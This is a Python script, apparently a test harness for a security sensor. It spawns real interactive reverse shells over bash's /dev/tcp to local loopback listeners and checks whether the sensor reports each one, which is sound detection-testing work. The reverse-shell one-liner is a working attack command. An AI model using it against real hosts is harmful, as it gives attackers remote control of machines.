"""Inside a pocket: `inborn sensor` tells the region, and shells get connections for their streams, one after another.

Arguments: a directory that both sides see, and how many shells. For each, `shell-N` says when it was started and where
it is connected to (JSON); it lives until `found-N` is there. `machine` says who this is.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import boto3

place, rounds = Path(sys.argv[1]), int(sys.argv[2])


def say(name: str, what: object) -> None:
    (place / f"{name}.part").write_text(json.dumps(what))
    (place / f"{name}.part").rename(place / name)


spool = tempfile.TemporaryDirectory()
sensor = subprocess.Popen(["inborn", "sensor", "--spool", spool.name], stderr=subprocess.PIPE, text=True)
time.sleep(2)
say("machine", boto3.client("sts").get_caller_identity()["Arn"].rpartition("/")[2])
for number in range(rounds):
    address = f"127.0.0.{number + 2}"
    with socket.create_server((address, 0)) as listener:
        port = listener.getsockname()[1]
        started = time.monotonic()
        shell = subprocess.Popen(["bash", "--norc", "-c", f"bash --norc -i >& /dev/tcp/{address}/{port} 0>&1"])
        attacker, _ = listener.accept()
        say(f"shell-{number}", {"started": started, "address": address, "port": port})
        with attacker:
            deadline = started + 30
            while not (place / f"found-{number}").exists() and time.monotonic() < deadline:
                time.sleep(0.02)
            attacker.sendall(b"exit\n")
            shell.wait(10)
sensor.terminate()
errors = sensor.stderr.read()
print(json.dumps({"status": sensor.wait(10), "errors": errors}))
